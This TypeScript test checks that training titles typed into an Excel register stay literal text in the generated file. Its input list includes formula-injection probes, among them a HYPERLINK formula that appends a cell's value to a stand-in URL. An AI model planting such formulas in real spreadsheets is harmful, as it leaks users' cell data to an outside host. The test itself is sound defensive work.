import ExcelJS from 'exceljs';
import { ExcelHost } from '../../../excel-host';
import { generate, openRegistersFile } from '../actions/open-registers-file';

/** Titles of trainings as somebody may have typed them. None of them is a formula, a date, a number or a boolean. */
const TITLES = [
  '=1+1',
  '+352 26 48 41 41',
  '-1+2',
  '@SUM(A1)',
  '=HYPERLINK("http://x/?"&A1)',
  '1-4',
  '9-12',
  '3/4',
  '007',
  '1E5',
  'TRUE',
  'VRAI',
  '01/04/2016',
  '50 %',
  "'entre apostrophes'",
];

const REGISTER = 'Actions et formations';

test('titles typed by staff are the same texts in the lists of the saved file', async () => {
  const { host, runner } = await openRegistersFile('dialogue-2016.xlsx');
  const names = host.sheetNames;
  const [headers = []] = host.values(REGISTER);
  const cells: Readonly<Record<string, (title: string) => string | number>> = {
    Année: () => 2016,
    'Service(s)': () => 'Dialogue',
    Catégorie: () => 'Formation projetée',
    Titre: (title) => title,
  };
  const first = host.values(REGISTER).length;
  const range = host.sheet(REGISTER).GetRangeByIndexes(first, 0, TITLES.length, headers.length);
  range.NumberFormat = TITLES.map(() => headers.map((header) => (header === 'Titre' ? '@' : 'General')));
  // As she typed it: an apostrophe at the beginning takes another one.
  const typed = (title: string): string => (title.startsWith("'") ? `'${title}` : title);
  range.Values = TITLES.map((title) => headers.map((header) => cells[String(header)]?.(typed(title)) ?? ''));

  await generate(runner, { edition: 'complete', services: ['dialogue', 'asbl'] });

  const bytes = await host.save();
  const saved = await ExcelHost.open(bytes);
  const found = saved.sheetNames
    .filter((name) => !names.includes(name))
    .flatMap((name) => {
      const used = saved.sheet(name).GetUsedRange(true);
      expect(used.Formulas).toEqual(used.Values);
      return (used.Values ?? []).flat();
    });
  expect(TITLES.filter((title) => !found.includes(title))).toEqual([]);

  // And as another program reads the file.
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  const texts = new Set<string>();
  const types = new Set<number>();
  for (const sheet of book.worksheets.filter(({ name }) => !names.includes(name)))
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        types.add(cell.type);
        if (typeof cell.value === 'string') texts.add(cell.value);
      });
    });
  expect(TITLES.filter((title) => !texts.has(title))).toEqual([]);
  expect(types).not.toContain(ExcelJS.ValueType.Formula);
  expect(types).not.toContain(ExcelJS.ValueType.Date);
  expect(types).not.toContain(ExcelJS.ValueType.Boolean);
});
